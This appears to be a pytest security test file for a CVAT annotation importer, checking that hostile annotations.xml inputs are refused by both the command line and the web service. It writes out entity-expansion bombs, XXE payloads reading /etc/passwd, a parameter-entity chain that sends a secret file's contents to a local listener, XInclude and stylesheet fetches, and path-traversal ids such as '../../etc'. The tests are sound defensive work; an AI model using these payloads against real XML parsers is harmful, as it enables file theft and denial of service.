"""Promise: hostile annotations.xml is refused with one sentence at every door, and does no harm."""

from __future__ import annotations

import socket
import threading
import zipfile
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from tests.cvat_io.cvat_samples import document, images, job, mask, track, write_zip
from tests.hostile import xmls
from tests.hostile.conftest import House, Refuse
from tests.hostile.xmls import SOUND, dtd, shaped, spelled

HUGE = "9" * 1_000_000
FRAME_63 = 2**63

XML: dict[str, tuple[bytes | Callable[[], bytes], str]] = {
    "laughs": (document(job(), "<x>&k;</x>", track(mask(1)), head=xmls.LAUGHS), ""),
    "laughs in an attribute": (document(job(), track(mask(1, rle="&k;")), head=xmls.LAUGHS), ""),
    "quadratic": (
        document(job(), f"<x>{'&a;' * 9000}</x>", head=xmls.QUADRATIC),
        "document type",
    ),
    "external file": (dtd('<!ENTITY x SYSTEM "file:///etc/passwd">'), "document type"),
    "external file by path": (dtd('<!ENTITY x SYSTEM "/etc/passwd">'), "document type"),
    "parameter entity": (
        dtd('<!ENTITY % p SYSTEM "file:///etc/passwd"> %p; <!ENTITY x "">'),
        "",
    ),
    "public": (dtd('<!ENTITY x PUBLIC "a" "file:///etc/passwd">'), "document type"),
    "entity for the head": (
        document(job().replace("<id>7", "<id>&x;"), head=dtd("").decode().split("]")[0] + "]>"),
        "",
    ),
    "no entity declared": (document(job(), track(mask(1, source="&x;"))), "XML"),
    "run lengths: negative": (shaped(mask(3, rle="1, -2, 9")), "negative"),
    "run lengths: NaN": (shaped(mask(3, rle="1, NaN, 5")), "NaN"),
    "run lengths: inf": (shaped(mask(3, rle="inf")), "inf"),
    "run lengths: floats": (shaped(mask(3, rle="1.0, 2.0, 5.0")), "1.0"),
    "run lengths: exponent": (shaped(mask(3, rle="8e0")), "8e0"),
    "run lengths: hexadecimal": (shaped(mask(3, rle="0x8")), "0x8"),
    "run lengths: none": (shaped(mask(3, rle="")), "no whole number"),
    "run lengths: a comma only": (shaped(mask(3, rle=", ")), "no whole number"),
    "run lengths: beyond int32": (shaped(mask(3, rle=f"1, {2**32 + 7}")), "add up to"),
    "run lengths: beyond int64": (shaped(mask(3, rle=f"1, {2**64 + 7}")), "add up to"),
    "run lengths: a million digits": (shaped(mask(3, rle=HUGE)), "no whole number"),
    "run lengths: 4000 digits": (shaped(mask(3, rle=", ".join(["9" * 4299] * 9))), "add up to"),
    "run lengths: -4000 digits": (shaped(mask(3, rle="-" + "9" * 4299)), "negative"),
    "run lengths: too few": (shaped(mask(3, rle="1, 2")), "add up to 3"),
    "run lengths: too many": (shaped(mask(3, rle="1, 2, 5, 9")), "add up to 17"),
    "box: no width": (shaped(mask(3, width=0)), "not inside"),
    "box: negative width": (shaped(mask(3, width=-4, height=-2)), "not inside"),
    "box: left of the image": (shaped(mask(3, left=-1)), "not inside"),
    "box: below the image": (shaped(mask(3, top=9)), "not inside"),
    "box: 2^31 pixels": (shaped(mask(3, width=65536, height=65536)), "not inside"),
    "box: a million digits": (shaped(mask(3, left=HUGE)), '"left"'),
    "box: 4000 digits": (shaped(mask(3, left="9" * 4000)), '"left"'),
    "frame: 2^63": (shaped(mask(FRAME_63)), '"frame"'),
    "frame: 2^63, no key": (shaped(mask(FRAME_63, keyframe=0)), '"frame"'),
    "frame: negative": (shaped(mask(-1)), "frame -1"),
    "frame: a million digits": (shaped(mask(HUGE)), '"frame"'),
    "z_order: 2^63": (shaped(mask(3, z_order=2**63)), '"z_order"'),
    "group: 2^31": (SOUND.replace(b'source="manual"', b'group_id="2147483648"'), '"group_id"'),
    "track id: a megabyte": (shaped(mask(3, rle="x"), number="../" * 350_000), "draw that mask"),
    "track: name space": (
        SOUND.replace(b"<track", b'<track xmlns:a="b" a:c="d"'),
        "name space",
    ),
    "head: 2^63 frames": (document(job(stop=2**63), track(mask(1))), "stop_frame"),
    "head: a label of a megabyte": (lambda: xmls.labelled("l" * 2**20), "characters"),
    "head: 100,000 labels": (lambda: xmls.many_labels(100_000), "labels"),
    "attributes: 100,000": (lambda: xmls.attribute_flood(100_000), "no images"),
    "attributes: twice": (SOUND.replace(b"rle=", b'rle="8" rle='), "XML"),
    "deep": (SOUND.split(b"</mask>")[0] + b"<a>" * 1_000_000, "XML"),
    "NUL": (SOUND.replace(b'"car"', b'"c\0r"'), "XML"),
    "NUL as a reference": (SOUND.replace(b'"car"', b'"c&#0;r"'), "XML"),
    "control character": (SOUND.replace(b'"car"', b'"c\x1b[2Jr"'), "XML"),
    "UTF-7": (spelled("utf-7", SOUND.replace(b"utf-8", b"utf-7") + b"+ADw-"), ""),
    "UTF-16 with half a pair": (
        spelled("utf-16").replace("car".encode("utf-16-le"), b"c\0\x00\xd8r\0"),
        "",
    ),
    "UTF-16 that is UTF-8": (SOUND.replace(b"utf-8", b"utf-16"), ""),
    "UTF-8, overlong": (SOUND.replace(b"car", b"c\xc0\xafr"), "XML"),
    "UTF-8, a surrogate": (SOUND.replace(b"car", b"c\xed\xa0\x80r"), "XML"),
    "unknown encoding": (SOUND.replace(b"utf-8", b"klingon"), "XML"),
    "not closed": (SOUND[:-20], "XML"),
    "two roots": (SOUND + SOUND[40:], "XML"),
    "another root": (b"<\xd0\xb6 a='<script>'/>".replace(b"<s", b"s"), "root"),
}  # fmt: skip


@pytest.mark.parametrize("name", XML)
def test_hostile_annotations_are_refused_at_every_door(
    tmp_path: Path, refused_by_cli: Refuse, house: House, name: str
) -> None:
    made, words = XML[name]
    data = made if isinstance(made, bytes) else made()
    bare, packed = tmp_path / "x.xml", tmp_path / "x.zip"
    bare.write_bytes(data)
    with zipfile.ZipFile(packed, "w") as archive:  # stored: the ratio is not what is tested here
        archive.writestr("annotations.xml", data)
    for sentence in (refused_by_cli(bare), house.refuse(packed)):
        assert words in sentence
        assert "root:" not in sentence  # as /etc/passwd begins


@contextmanager
def listener() -> Iterator[tuple[int, list[bytes]]]:
    """A server that notes who comes."""
    seen: list[bytes] = []
    server = socket.create_server(("127.0.0.1", 0))

    def serve() -> None:
        while True:
            try:
                client, _ = server.accept()
            except OSError:
                return
            with client:
                seen.append(client.recv(100))

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1], seen
    server.shutdown(socket.SHUT_RDWR)
    server.close()
    thread.join(10)


@pytest.mark.parametrize(
    "subset",
    [
        '<!ENTITY x SYSTEM "{url}">',
        '<!ENTITY % p SYSTEM "{url}"> %p;',
        '<!ENTITY % d "&#60;!ENTITY x SYSTEM \'{url}\'>"> %d;',
        '<!ENTITY % f SYSTEM "{file}"> '
        '<!ENTITY % e "&#60;!ENTITY &#37; s SYSTEM \'{url}?%f;\'>"> %e; %s;',
        '<!NOTATION x SYSTEM "{url}">',
    ],
)  # fmt: skip
def test_nothing_is_fetched_and_no_file_is_read(
    tmp_path: Path, refused_by_cli: Refuse, house: House, subset: str
) -> None:
    secret = tmp_path / "secret"
    secret.write_text("swordfish")
    with listener() as (port, seen):
        url = f"http://127.0.0.1:{port}/a.dtd"
        made = dtd(subset.replace("{url}", url).replace("{file}", secret.as_uri()))
        outside = document(job(), head=f'<!DOCTYPE annotations SYSTEM "{url}">')
        style = f'<?xml-stylesheet href="{url}"?>'
        included = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{secret}"/>'
        path = tmp_path / "x.xml"
        for data in (
            made,
            outside,
            SOUND.replace(b"<annotations>", f"{style}<annotations>".encode()),
        ):
            path.write_bytes(data)
            assert "swordfish" not in refused_by_cli(path) + house.refuse(path)
        taken = SOUND.replace(b"<dumped>", included.encode() + b"<dumped>")
        members = {"annotations.xml": taken, **images(*range(10))}
        job_view = house.send("include.zip", write_zip(tmp_path / "x.zip", members).read_bytes())
        assert job_view["state"] == "ready"
        assert "swordfish" not in house.client.get("/jobs/include").text
        assert house.client.delete("/api/jobs/include").status_code == 204
        assert seen == []


@pytest.mark.parametrize("name", ["../../etc", "a/b", "%2e%2e%2f", "\u202e/..", "x" * 999])
def test_ids_that_look_like_paths_lead_nowhere(tmp_path: Path, house: House, name: str) -> None:
    text = SOUND.replace(b"<id>7<", f"<id>{name}<".encode()).replace(b'id="0"', b'id="../0"')
    data = write_zip(
        tmp_path / "x.zip", {"annotations.xml": text, **images(*range(10))}
    ).read_bytes()
    job_view = house.send("paths.zip", data)
    assert (job_view["id"], job_view["state"]) == ("paths", "ready")
    assert {path.name for path in (house.data / "jobs").iterdir()} == {"bystander", "paths"}
    house.unharmed()
    assert house.client.delete("/api/jobs/paths").status_code == 204
